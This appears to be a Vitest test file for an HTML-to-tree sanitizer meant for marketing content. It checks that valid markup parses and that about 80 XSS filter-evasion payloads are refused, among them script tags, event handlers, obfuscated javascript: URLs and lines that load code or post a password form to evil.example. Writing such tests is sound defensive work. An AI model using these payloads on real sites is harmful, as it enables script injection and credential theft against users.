import { describe, expect, it } from 'vitest'
import { htmlToTree } from './html-to-tree.ts'

const problemsOf = (html: string) => htmlToTree(html, 'here').problems

describe('what a marketer writes becomes a tree', () => {
  it.each([
    ['Hello <b>you</b>', ['Hello ', ['b', {}, 'you']]],
    ['<br>', [['br', {}]]],
    ['<p class="offer">10 % off<!-- until May --></p>', [['p', { class: 'offer' }, '10 % off']]],
    [
      '<a href="/sale?a=1&amp;b=2" data-segue-event="cta" aria-label="Sale">Go</a>',
      [['a', { href: '/sale?a=1&b=2', 'data-segue-event': 'cta', 'aria-label': 'Sale' }, 'Go']],
    ],
    [
      '<a href=mailto:us@shop.example>Mail</a>',
      [['a', { href: 'mailto:us@shop.example' }, 'Mail']],
    ],
    [
      '<a href="https://x.example" target="_blank" rel="nofollow">x</a>',
      [['a', { href: 'https://x.example', target: '_blank', rel: 'nofollow noopener' }, 'x']],
    ],
    [
      '<picture><source srcset="a.avif 1x, a,b.avif 2x" type="image/avif"><img src=a.jpg alt=""></picture>',
      [
        [
          'picture',
          {},
          ['source', { srcset: 'a.avif 1x, a,b.avif 2x', type: 'image/avif' }],
          ['img', { src: 'a.jpg', alt: '' }],
        ],
      ],
    ],
    [
      '<table><tr><td colspan="2">x</table>',
      [['table', {}, ['tbody', {}, ['tr', {}, ['td', { colspan: '2' }, 'x']]]]],
    ],
    ['<tr><td>x</td></tr>', [['tr', {}, ['td', {}, 'x']]]],
    ['Größe &lt; 3 €', ['Größe < 3 €']],
    ['', []],
  ])('%s', (html, tree) => {
    expect(htmlToTree(html, 'here')).toEqual({ tree, problems: [] })
  })
})

// Classic payloads, among them those of OWASP's XSS filter evasion cheat sheet.
// https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="a.jpg 1x, javascript:alert(1) 2x">',
  '<img srcset="a.jpg 1x,data:text/html,x 2x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="view-source:https://shop.example/">x</a>',
  '<a href="/two words">x</a>',
  '<a href="/photo\u202egpj.exe">x</a>',
  '<a href="/x" style="position:fixed">x</a>',
  '<a href="/x" ping="https://evil.example">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div onmouseover="alert(1)">x</div>',
  '<div\nonclick\n=alert(1)>x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><p>inside</p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<button type="submit">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><p>x</p></html>',
  '<head><p>x</p></head>',
  '<frameset onload=alert(1)></frameset>',
  '<template><script>alert(1)</script></template>',
  '<x-widget>custom</x-widget>',
  '<slot name="x"></slot>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!doctype html><p>x</p>',
  '<?xml version="1.0"?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="1x">x</p>',
  '<p is="x-widget">x</p>',
  '<p slot="x">x</p>',
  '<p nonce="x">x</p>',
  '<img name="cookie" src=x>',
  '<div data-ng-init="constructor.constructor(1)()">x</div>',
  '<div data-hx-get="/x" data-bind="text: alert(1)">x</div>',
  '<div data-on-click="alert(1)">x</div>',
  '<div data-hx-on:click="alert(1)">x</div>',
  '<a href="/x" target="opener">x</a>',
  '<a href="/x" rel="opener">x</a>',
]

describe('what could run, load or mislead is refused', () => {
  it.each(attacks)('%s', (html) => {
    const problems = problemsOf(html)
    expect(problems).not.toEqual([])
    for (const { place, value, problem, remedy } of problems) {
      expect(place).toMatch(/^here › line \d+$/)
      expect(value).not.toBe('')
      expect(problem).not.toBe('')
      expect(remedy).toMatch(/\.$/)
    }
  })

  it('keeps refused elements and their children out of the tree as well', () => {
    expect(htmlToTree('a<iframe><b>x</b></iframe><script>y</script>', 'here').tree).toEqual(['a'])
  })
})

describe('what a browser would repair is refused', () => {
  it.each([
    ['<b><p>x</b>y</p>', 'The tags cross each other'],
    ['<p class=a class=b>x</p>', 'This HTML is broken (duplicate attribute)'],
    ['3 < 4', 'This HTML is broken (invalid first character of tag name)'],
    ['<p>x</p><tr><td>y</td></tr>', 'A browser would leave this tag out here'],
    ['<p>x</p', 'This HTML is broken (eof in tag)'],
    ['<a href="/x>x</a>', 'This HTML is broken (eof in tag)'],
    ['<div>a</p>b</div>', 'The tags cross each other'],
    [`${'<b>'.repeat(33)}x${'</b>'.repeat(33)}`, 'Elements lie more than 32 deep'],
  ])('%s', (html, problem) => {
    expect(problemsOf(html).map((found) => found.problem)).toContain(problem)
  })
})

it('names every fault with its line, what was found and the way out', () => {
  const problems = problemsOf('<p>fine</p>\n<p onclick="x()">\n<b style="color:red">no</b></p>')
  expect(problems.map(({ place, value }) => [place, value])).toEqual([
    ['here › line 2', 'onclick="x()"'],
    ['here › line 3', 'style="color:red"'],
  ])
  expect(problems[0]?.remedy).toContain('data-segue-event')
  expect(problems[1]?.remedy).toContain("class of the site's own stylesheet")
})

it('does not even parse what would keep the collector busy', () => {
  const html = Array.from({ length: 900 }, (_, n) => `<b class=c${n}><p>`).join('')
  const began = performance.now()
  expect(problemsOf(html).map(({ problem }) => problem)).toEqual([
    'There are more than 500 elements',
  ])
  expect(performance.now() - began).toBeLessThan(500)
})
